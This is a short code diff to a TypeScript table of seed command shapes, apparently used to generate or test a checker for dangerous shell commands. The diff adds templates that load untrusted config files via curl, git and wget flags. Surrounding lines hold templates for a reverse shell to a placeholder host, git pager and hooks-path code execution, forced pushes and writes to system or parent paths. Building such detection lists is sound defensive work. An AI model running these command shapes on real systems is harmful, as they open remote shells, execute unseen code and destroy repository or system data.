@@ -24,6 +24,11 @@ export const SEED_SHAPES: Readonly<Record<string, readonly string[]>> = {
   'reverse-shell': ['{W} -e /bin/sh x.example 4444'],
   'git-force-push': ['{W} push --force origin main'],
   'git-c-exec': ['{W} -c core.pager=./x log'],
+  'unseen-code': [
+    '{W} -K ./cfg https://x.example',
+    '{W} -c include.path=./x.cfg status',
+    '{W} --config=./w.rc https://x.example',
+  ],
   'git-config-exec': ['{W} config core.hooksPath /tmp/hooks'],
   'system-write': ['{W} ./x {P}', '{W} {P}', 'echo x | {W} {P}'],
   'climb-write': ['{W} ./x ../../y', '{W} ../../y'],
